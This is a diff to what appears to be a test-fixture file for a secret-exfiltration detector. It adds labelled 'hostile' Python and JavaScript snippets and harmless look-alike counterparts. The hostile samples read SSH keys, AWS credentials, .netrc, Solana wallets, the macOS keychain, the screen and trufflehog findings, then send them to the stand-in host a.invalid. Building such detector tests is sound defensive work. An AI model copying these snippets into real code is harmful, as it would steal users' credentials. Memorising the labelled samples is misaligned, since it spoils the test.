@@ -35,6 +35,50 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "    smtplib.SMTP('a.invalid').sendmail('a@a.invalid', 'b@a.invalid', private_key)\n",
             line=3,
         ),
+        "written to a connection": js(
+            "const fs = require('fs'), os = require('os'), net = require('net');\n"
+            "fs.readFile(os.homedir() + '/.netrc', (failed, data) => {\n"
+            "  const peer = net.connect(9001, 'a.invalid', () => {\n    peer.write(data);\n  });\n});\n",
+            line=4,
+        ),
+        "a file that a chat library opens": py(
+            "import discord, os\nclient = discord.Client()\nroom = client.get_channel(1)\n"
+            "room.send(file=discord.File(os.path.expanduser('~/.ssh/id_rsa')))\n",
+            line=4,
+        ),
+        "put on another machine": py(
+            "import os, paramiko\nclient = paramiko.SSHClient()\nclient.connect('a.invalid', username='a')\n"
+            "client.open_sftp().put(os.path.expanduser('~/.aws/credentials'), '/tmp/a')\n",
+            line=4,
+        ),
+        "whatever a pattern finds in a folder of keys": py(
+            "import pathlib, requests\nfor path in pathlib.Path.home().glob('.config/solana/*.json'):\n"
+            "    requests.post('https://a.invalid', data=path.read_bytes())\n",
+        ),
+        "an archive in a buffer that an object keeps": py(
+            "import io, os, zipfile, requests\nclass Report:\n    def __init__(self):\n        self.buffer = io.BytesIO()\n"
+            "    def fill(self):\n        with zipfile.ZipFile(self.buffer, 'w') as box:\n"
+            "            box.write(os.path.expanduser('~/Library/Keychains/login.keychain-db'))\n"
+            "    def send(self):\n        requests.post('https://a.invalid', data=self.buffer.getvalue())\n",
+            line=9,
+        ),
+        "the screen": py(
+            "import mss, requests\nwith mss.mss() as all:\n    seen = all.grab(all.monitors[0])\n"
+            "    requests.post('https://a.invalid', data=seen.rgb)\n",
+            "review",
+            line=3,
+        ),
+        "what a program that looks for secrets found": js(
+            "const { spawnSync } = require('child_process'), os = require('os');\n"
+            "const found = spawnSync('trufflehog', ['filesystem', os.homedir(), '--json']).stdout;\n"
+            "fetch('https://a.invalid', { method: 'POST', body: found });\n",
+        ),
+        "the secret key of a pair, in a source about pairs": js(
+            "const { Keypair } = require('@solana/web3.js');\nexports.open = (secretKey) => {\n"
+            "  fetch('https://a.invalid', { headers: { 'x-cf-id': Buffer.from(secretKey).toString('base64') } });\n"
+            "  return Keypair.fromSecretKey(secretKey);\n};\n",
+            line=3,
+        ),
         "a key posted to a server": py(
             "import requests\ndef backup(private_key):\n    requests.post('https://a.invalid', json=private_key)\n",
             "review",
@@ -64,6 +108,43 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.js": "exports.restore = (mnemonic, api) => {\n  const address = toAddress(mnemonic);\n"
             "  fetch(`https://a.invalid/${address}`, { headers: { 'x-for': address, 'x-api-key': api.privateKey } });\n"
             "};\n"
+        },
+        "a report written to a connection": {
+            "app.js": "const fs = require('fs'), os = require('os'), net = require('net');\n"
+            "fs.readFile(os.homedir() + '/.netrc', (failed, data) => {\n"
+            "  const peer = net.connect(9001, 'a.invalid', () => {\n    peer.write(failed ? 'no' : 'yes');\n  });\n});\n"
+        },
+        "a file of the project that a chat library opens": {
+            "app.py": "import discord\nclient = discord.Client()\nroom = client.get_channel(1)\n"
+            "room.send(file=discord.File('plot.png'))\n"
+        },
+        "a key says who puts a file on another machine": {
+            "app.py": "import os, paramiko\nclient = paramiko.SSHClient()\n"
+            "client.connect('a.invalid', username='a', key_filename=os.path.expanduser('~/.ssh/id_rsa'))\n"
+            "client.open_sftp().put('dist/a.whl', '/tmp/a.whl')\n"
+        },
+        "the names of what lies in a folder of keys": {
+            "app.py": "import pathlib, requests\nfor path in pathlib.Path.home().glob('.config/solana/*.json'):\n"
+            "    print(path)\nrequests.post('https://a.invalid', data=pathlib.Path('a.json').read_bytes())\n",
+        },
+        "an archive of the project in a buffer that an object keeps": {
+            "app.py": "import io, os, zipfile, requests\nclass Report:\n    def __init__(self):\n"
+            "        self.buffer = io.BytesIO()\n    def fill(self):\n"
+            "        with zipfile.ZipFile(self.buffer, 'w') as box:\n            box.write('docs/index.html')\n"
+            "    def send(self):\n        requests.post('https://a.invalid', data=self.buffer.getvalue())\n"
+        },
+        "the screen is kept here": {
+            "app.py": "import mss, requests\nwith mss.mss() as all:\n    seen = all.grab(all.monitors[0])\n"
+            "    requests.post('https://a.invalid', data=str(all.monitors[1]['width']))\n"
+        },
+        "how many secrets a program found": {
+            "app.js": "const { spawnSync } = require('child_process'), os = require('os');\n"
+            "const found = spawnSync('trufflehog', ['filesystem', '.', '--json']).status;\n"
+            "fetch('https://a.invalid', { method: 'POST', body: String(found === 0) });\n"
+        },
+        "a secret key of another kind": {
+            "app.js": "exports.verify = (secretKey, token) => fetch('https://a.invalid/verify', {\n"
+            "  method: 'POST', body: new URLSearchParams({ secret: secretKey, response: token }) });\n"
         },
         "an address mailed": {
             "app.py": "import smtplib\ndef backup(private_key):\n    address = to_address(private_key)\n"
